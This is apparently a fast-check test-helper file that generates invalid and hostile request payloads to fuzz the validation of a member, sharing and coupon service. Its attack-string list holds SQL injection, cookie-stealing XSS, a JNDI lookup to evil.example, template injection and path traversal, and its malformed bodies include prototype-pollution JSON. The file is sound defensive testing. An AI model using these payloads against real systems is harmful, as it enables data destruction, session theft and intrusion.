import fc from 'fast-check';

/**
 * fast-check arbitraries for hostile operation payloads. Each case carries the field it broke, so
 * a test can check that the answer names it. Written from the README's contract, not from the
 * service's zod schemas, so the two are checked against each other.
 */
export interface HostileCase {
  payload: unknown;
  /** Dotted path of the broken field ('' for the whole payload). */
  field: string;
  /** The break is an unknown key added to the object at `field`. */
  unknownKey?: boolean;
  note: string;
}

const VALID_ID = /^[A-Za-z0-9][A-Za-z0-9._@-]{0,127}$/;
const isValidAmount = (value: string) => /^(0|[1-9]\d{0,12})(\.\d{1,2})?$/.test(value) && /[1-9]/.test(value);

const ATTACKS = [
  "'; DROP TABLE members; --",
  "1' OR '1'='1",
  'Robert"); DROP TABLE sharing_history;--',
  "m1'); DELETE FROM coupons WHERE ('1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  'a:b',
  'op-1-chunk-0:evil',
  ' m1',
  'm1 ',
  '',
  '\u0000',
  'm\u0000x',
  '\ud800',
  'm\udfffx',
  '名字',
  '🙂',
  '%00',
  '\\',
  '-m1',
  '.hidden',
  'line\nbreak',
];

/** A string that is not a valid id: attacks, arbitrary code points, too long (up to 100,000 chars). */
export const hostileId: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }).filter((s) => !VALID_ID.test(s)),
  fc.integer({ min: 129, max: 100_000 }).map((n) => 'x'.repeat(n)),
);

/** Amounts the contract refuses: negative, NaN, exponents, three decimals, too large, numbers. */
export const hostileAmount: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    '-1',
    '-0.01',
    'NaN',
    'Infinity',
    '-Infinity',
    '1e3',
    '1E3',
    '1e-2',
    '1.234',
    '0.001',
    '0',
    '0.00',
    '00.10',
    '01',
    '',
    ' 1.00',
    '1.00 ',
    '1,00',
    '+1',
    '0x10',
    '1.',
    '.5',
    '99999999999999',
    '1_000',
    'null',
    '12.50\u0000',
  ),
  fc.integer({ min: -1_000_000, max: -1 }).map(String),
  fc.tuple(fc.nat(9_999), fc.integer({ min: 100, max: 99_999 })).map(([whole, fraction]) => `${whole}.${fraction}`),
  fc.tuple(fc.integer({ min: 1, max: 999 }), fc.integer({ min: -20, max: 20 })).map(([m, e]) => `${m}e${e}`),
  fc.double({ noNaN: false }),
  fc.integer(),
  fc.string({ maxLength: 12 }).filter((s) => !isValidAmount(s)),
);

/** Values of the wrong JSON type for a slot expecting `expected`. */
const wrongType = (expected: 'string' | 'boolean' | 'array' | 'object'): fc.Arbitrary<unknown> =>
  fc.oneof(
    ...(expected === 'string' ? [] : [fc.string({ maxLength: 10 }), fc.constantFrom('true', 'yes', '[]')]),
    ...(expected === 'boolean' ? [] : [fc.boolean()]),
    ...(expected === 'array' ? [fc.constant([])] : [fc.array(fc.integer(), { maxLength: 3 })]),
    ...(expected === 'object' ? [] : [fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 2 })]),
    fc.integer(),
    fc.double(),
    fc.constant(null),
  );

const badTimestamp = fc.oneof(
  fc.constantFrom(
    'yesterday',
    '2026-13-01T00:00:00Z',
    '2026-10-01T00:00:00',
    '2026-10-01',
    '01/10/2026',
    '',
    'NaN',
    '2026-10-01T25:00:00Z',
  ),
  fc.integer({ min: 0, max: 2_000_000_000_000 }),
);

const KINDS = [
  'members.associate',
  'members.dissociate',
  'sharing.set-default',
  'sharing.set',
  'coupons.issue',
  'coupons.allocate',
  'coupons.revoke',
];

/** A valid payload of a random kind, with 1–4 items, as a mutable plain object. */
const validPayload = (operationId: string): fc.Arbitrary<Record<string, any>> =>
  fc.tuple(fc.constantFrom(...KINDS), fc.integer({ min: 1, max: 4 }), fc.boolean()).map(([kind, n, flag]) => {
    const ids = Array.from({ length: n }, (_, i) => `hm-${i}`);
    const base = { operationId, kind, enterpriseId: 'E-hostile' };
    switch (kind) {
      case 'sharing.set-default':
        return { ...base, shareWithNewMembers: flag };
      case 'sharing.set':
        return { ...base, enabled: flag, memberIds: ids };
      case 'coupons.issue':
        return {
          ...base,
          coupons: ids.map((id) => ({
            couponId: `c-${id}`,
            faceValue: '100.00',
            allocationMode: flag ? 'once' : 'multiple',
            validFrom: '2026-01-01T00:00:00Z',
            validUntil: '2027-01-01T00:00:00Z',
            products: ['ecs'],
          })),
        };
      case 'coupons.allocate':
        return { ...base, couponId: 'C-hostile', allocations: ids.map((memberId) => ({ memberId, amount: '1.50' })) };
      case 'coupons.revoke':
        return { ...base, couponId: 'C-hostile', revocations: ids.map((memberId) => ({ memberId, amount: '0.50' })) };
      default:
        return { ...base, memberIds: ids };
    }
  });

type Slot = {
  path: (string | number)[];
  type: 'id' | 'amount' | 'boolean' | 'array' | 'timestamp' | 'mode' | 'kind';
  required: boolean;
};

/** Every field of a valid payload, with what it must hold. */
function slots(payload: Record<string, any>): Slot[] {
  const out: Slot[] = [
    { path: ['operationId'], type: 'id', required: false },
    { path: ['kind'], type: 'kind', required: true },
    { path: ['enterpriseId'], type: 'id', required: true },
  ];
  if ('enabled' in payload) out.push({ path: ['enabled'], type: 'boolean', required: true });
  if ('shareWithNewMembers' in payload) out.push({ path: ['shareWithNewMembers'], type: 'boolean', required: true });
  if ('couponId' in payload) out.push({ path: ['couponId'], type: 'id', required: true });
  if (payload.memberIds) {
    out.push({ path: ['memberIds'], type: 'array', required: true });
    payload.memberIds.forEach((_: unknown, i: number) =>
      out.push({ path: ['memberIds', i], type: 'id', required: true }),
    );
  }
  for (const list of ['allocations', 'revocations'] as const) {
    if (!payload[list]) continue;
    out.push({ path: [list], type: 'array', required: true });
    payload[list].forEach((_: unknown, i: number) => {
      out.push({ path: [list, i, 'memberId'], type: 'id', required: true });
      out.push({ path: [list, i, 'amount'], type: 'amount', required: list === 'allocations' });
    });
  }
  if (payload.coupons) {
    out.push({ path: ['coupons'], type: 'array', required: true });
    payload.coupons.forEach((_: unknown, i: number) => {
      out.push({ path: ['coupons', i, 'couponId'], type: 'id', required: true });
      out.push({ path: ['coupons', i, 'faceValue'], type: 'amount', required: true });
      out.push({ path: ['coupons', i, 'allocationMode'], type: 'mode', required: true });
      out.push({ path: ['coupons', i, 'validFrom'], type: 'timestamp', required: true });
      out.push({ path: ['coupons', i, 'validUntil'], type: 'timestamp', required: true });
      out.push({ path: ['coupons', i, 'products'], type: 'array', required: true });
      out.push({ path: ['coupons', i, 'products', 0], type: 'id', required: true });
    });
  }
  return out;
}

const badValue = (type: Slot['type']): fc.Arbitrary<unknown> => {
  switch (type) {
    case 'id':
      return fc.oneof(hostileId, wrongType('string'));
    case 'amount':
      return hostileAmount;
    case 'boolean':
      return wrongType('boolean');
    case 'array':
      return wrongType('array');
    case 'timestamp':
      return badTimestamp;
    case 'mode':
      return fc.oneof(fc.constantFrom('twice', 'ONCE', 'Once', '', 'once '), wrongType('string'));
    case 'kind':
      return fc.oneof(
        fc.constantFrom('sharing.SET', 'members', 'coupons.allocate ', "sharing.set'; --", ''),
        fc.string({ maxLength: 20 }).filter((s) => !KINDS.includes(s)),
        wrongType('string'),
      );
  }
};

function setAt(target: Record<string, any>, path: (string | number)[], value: unknown, remove = false): void {
  let node: any = target;
  for (const key of path.slice(0, -1)) node = node[key];
  const last = path.at(-1)!;
  if (remove) delete node[last];
  else node[last] = value;
}

/** One valid payload broken in one place: a bad value, a missing field, or an unknown key. */
export const brokenPayload = (operationId: string): fc.Arbitrary<HostileCase> =>
  validPayload(operationId).chain((valid) => {
    const all = slots(valid);
    const required = all.filter((s) => s.required);
    const objects: (string | number)[][] = [
      [],
      ...all.filter((s) => s.type === 'id' && s.path.length === 3).map((s) => s.path.slice(0, 2)),
    ];
    const clone = () => structuredClone(valid);
    return fc.oneof(
      fc.constantFrom(...all).chain((slot) =>
        badValue(slot.type).map((value) => {
          const payload = clone();
          setAt(payload, slot.path, value);
          return { payload, field: slot.path.join('.'), note: `${slot.path.join('.')} = ${describe(value)}` };
        }),
      ),
      fc.constantFrom(...required).map((slot) => {
        const payload = clone();
        setAt(payload, slot.path, undefined, true);
        return { payload, field: slot.path.join('.'), note: `${slot.path.join('.')} missing` };
      }),
      fc
        .tuple(
          fc.constantFrom(...objects),
          fc.oneof(
            fc.constantFrom(...ATTACKS.filter(Boolean)),
            fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
          ),
          // No "__proto__", "constructor" or "prototype" key inside the value: fastify refuses such a
          // body before it is validated (prototype poisoning), which `malformedBody` covers.
          fc
            .jsonValue({ maxDepth: 1 })
            .filter((v) => !/"(__proto__|constructor|prototype)":/.test(JSON.stringify(v) ?? '')),
        )
        .map(([at, key, value]) => {
          const payload = clone();
          let node: any = payload;
          for (const k of at) node = node[k];
          const known = [
            'operationId',
            'kind',
            'enterpriseId',
            'enabled',
            'shareWithNewMembers',
            'couponId',
            'memberIds',
            'allocations',
            'revocations',
            'coupons',
            'memberId',
            'amount',
            'faceValue',
            'allocationMode',
            'validFrom',
            'validUntil',
            'products',
          ];
          const name = known.includes(key) || key === '__proto__' || key === 'constructor' ? `${key}-extra` : key;
          Object.defineProperty(node, name, { value, enumerable: true, writable: true, configurable: true });
          return {
            payload,
            field: at.join('.'),
            unknownKey: true,
            note: `unknown key ${JSON.stringify(name)} at ${at.join('.') || '(root)'}`,
          };
        }),
      // validUntil not after validFrom: a rule across two fields.
      ...(valid.coupons
        ? [
            fc.constant(null).map(() => {
              const payload = clone();
              payload.coupons[0].validUntil = payload.coupons[0].validFrom;
              return { payload, field: 'coupons.0.validUntil', note: 'validUntil = validFrom' };
            }),
          ]
        : []),
    );
  });

/** Anything at all as the whole payload: every JSON value, none of which is a valid operation. */
export const randomPayload: fc.Arbitrary<HostileCase> = fc
  .oneof(
    fc.jsonValue({ maxDepth: 3 }),
    fc.dictionary(fc.constantFrom('kind', 'enterpriseId', 'memberIds', 'x'), fc.jsonValue({ maxDepth: 1 })),
  )
  .map((payload) => ({ payload, field: '', note: `random ${describe(payload)}` }));

/** Request bodies that are not JSON at all, or JSON that fastify refuses (prototype poisoning). */
export const malformedBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '{"kind": "sharing.set", "enterpriseId": "E1", "enabled": true, "memberIds": ["m1"]',
    "{'kind': 'sharing.set'}",
    '{"kind": "sharing.set",}',
    '{"amount": NaN}',
    '[1, 2,',
    'undefined',
    '\u0000',
    '{"__proto__": {"polluted": true}, "kind": "sharing.set"}',
    '{"constructor": {"prototype": {"polluted": true}}}',
  ),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 200 }).filter((s) => {
    try {
      JSON.parse(s);
      return false;
    } catch {
      return true;
    }
  }),
);

function describe(value: unknown): string {
  const text = typeof value === 'string' ? JSON.stringify(value) : String(JSON.stringify(value));
  return text.length > 60 ? `${text.slice(0, 60)}… (${text.length} chars)` : text;
}
